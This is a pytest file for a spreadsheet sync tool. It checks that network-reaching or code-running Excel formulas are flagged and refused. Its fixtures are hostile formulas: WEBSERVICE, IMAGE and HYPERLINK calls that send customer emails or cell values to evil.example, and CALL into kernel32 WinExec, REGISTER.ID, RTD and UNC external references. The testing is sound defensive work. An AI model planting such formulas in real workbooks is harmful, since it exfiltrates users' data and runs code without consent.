"""Formulas that reach the network or run code are part of the workbook's trust boundary:
`cims workbook check` and every sync name each one (sheet, cell or defined name, and the
function or reference), in any sheet, and refuse before writing anything;
--restore-settings does not remove them (they may be the user's own) and still refuses.
Text that merely mentions such a function, a string inside a formula, a table's column
reference and a plain web link are not alarms. Workbooks are built by the test and planted
with openpyxl."""
from __future__ import annotations

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from cims_xl.excel.build import build_bytes
from cims_xl.excel.trust import UntrustedWorkbook
from cims_xl.services import records

UNTRUSTED = UntrustedWorkbook.exit_code


@pytest.fixture(scope="module")
def shipped() -> bytes:
    return build_bytes()


def _book(tmp_path, shipped, cells=(), names=()):
    path = tmp_path / "book.xlsm"
    path.write_bytes(shipped)
    wb = openpyxl.load_workbook(path, keep_vba=True)
    if "Mis notas" not in wb.sheetnames:
        wb.create_sheet("Mis notas")
    for sheet, ref, value in cells:
        wb[sheet][ref] = value
    for name, text in names:
        wb.defined_names[name] = DefinedName(name, attr_text=text)
    wb.save(path)
    return path


PLANTS = [
    ("Home", "H30", '=WEBSERVICE("https://evil.example/c?d="&ENCODEURL(TEXTJOIN(",",TRUE,tblCustomers[Email])))',
     "WEBSERVICE"),
    ("Mis notas", "C7", '=_xlfn.WEBSERVICE("http://198.51.100.7/x")', "WEBSERVICE"),
    ("Home", "H31", '=HYPERLINK("file://evil/share","Open your report")', "HYPERLINK"),
    ("Mis notas", "B1", "='\\\\evil\\share\\[x.xlsx]S'!A1", "another workbook"),
    ("Mis notas", "D2", "=SUM('C:\\Users\\Public\\[Preise.xlsx]Blatt1'!A1:A9)", "another workbook"),
    ("Mis notas", "E5", '=RTD("evil.server",,"topic")', "RTD"),
    ("Mis notas", "F5", '=CALL("kernel32","WinExec","JCJ","calc",1)', "CALL"),
    ("Mis notas", "G5", '=REGISTER.ID("evil.dll","Run")', "REGISTER.ID"),
    ("Mis notas", "H5", '=FILTERXML("https://evil.example/feed.xml","//a")', "FILTERXML"),
    ("Mis notas", "I5", '=HYPERLINK("https://evil.example/?q="&A1,"Details")', "HYPERLINK"),
    ("Mis notas", "J5", '=_xlfn.IMAGE("https://evil.example/p.png?"&A1)', "IMAGE"),
]


@pytest.mark.parametrize("sheet,ref,formula,named", PLANTS)
def test_workbook_check_names_the_cell_and_what_a_network_formula_uses(run, tmp_path, shipped,
                                                                      sheet, ref, formula, named):
    book = _book(tmp_path, shipped, [(sheet, ref, formula)])
    code, out, err = run("workbook", "check", str(book))
    said = " ".join(err.split())
    assert code == UNTRUSTED, out + err
    assert f"{sheet}!{ref}" in said and named in said, said


@pytest.mark.parametrize("action", ["save", "refresh", "reports"])
def test_every_sync_refuses_a_network_formula_before_writing_and_restore_settings_leaves_it_to_the_user(
        run, admin, tmp_path, shipped, action):
    records.create(admin, "customer", {"name": "Chloé Thomas", "email": "chloe@example.fr"})
    book = _book(tmp_path, shipped, [("Home", "H30", '=WEBSERVICE("https://evil.example/?d="&A1)')])
    before = book.read_bytes()
    for extra in ([], ["--restore-settings"]):
        code, out, err = run("sync", str(book), action, *extra)
        assert code == UNTRUSTED, out + err
        assert "Home!H30" in " ".join(err.split())
        assert book.read_bytes() == before


def test_a_defined_name_that_calls_the_network_is_named(run, tmp_path, shipped):
    book = _book(tmp_path, shipped, names=[("Leak", 'WEBSERVICE("https://evil.example/"&Home!$A$1)')])
    code, out, err = run("workbook", "check", str(book))
    said = " ".join(err.split())
    assert code == UNTRUSTED, out + err
    assert "Leak" in said and "WEBSERVICE" in said


def test_beside_one_planted_formula_text_strings_table_columns_and_plain_links_are_not_named(
        run, tmp_path, shipped):
    book = _book(tmp_path, shipped, [
        ("Mis notas", "A1", "WEBSERVICE(https://evil.example) is what the auditor asked about"),
        ("Mis notas", "A2", '="=WEBSERVICE(""https://x"")"'),
        ("Mis notas", "A3", "=COUNTA(tblCustomers[Email])"),
        ("Mis notas", "A4", '=HYPERLINK("https://intranet.example/crm","Our CRM")'),
        ("Mis notas", "A5", "='Mis notas'!A3*2"),
        ("Mis notas", "A6", '=IFERROR(VLOOKUP(A3,Home!A1:B9,2,FALSE),"—")'),
        ("Mis notas", "A7", '=WEBSERVICE("https://evil.example/"&A3)'),
    ])
    code, out, err = run("workbook", "check", str(book))
    said = " ".join(err.split())
    assert code == UNTRUSTED, out + err
    assert said.count("the formula in") == 1 and "Mis notas!A7 uses WEBSERVICE" in said, said


def test_a_long_list_of_planted_formulas_is_named_up_to_a_limit_then_counted(run, tmp_path, shipped):
    cells = [("Mis notas", f"A{r}", f'=WEBSERVICE("https://evil.example/{r}")') for r in range(1, 41)]
    book = _book(tmp_path, shipped, cells)
    code, out, err = run("workbook", "check", str(book))
    said = " ".join(err.split())
    assert code == UNTRUSTED
    assert "Mis notas!A1 " in said and "Mis notas!A20 " in said and "Mis notas!A21 " not in said
    assert "20 more formulas" in said
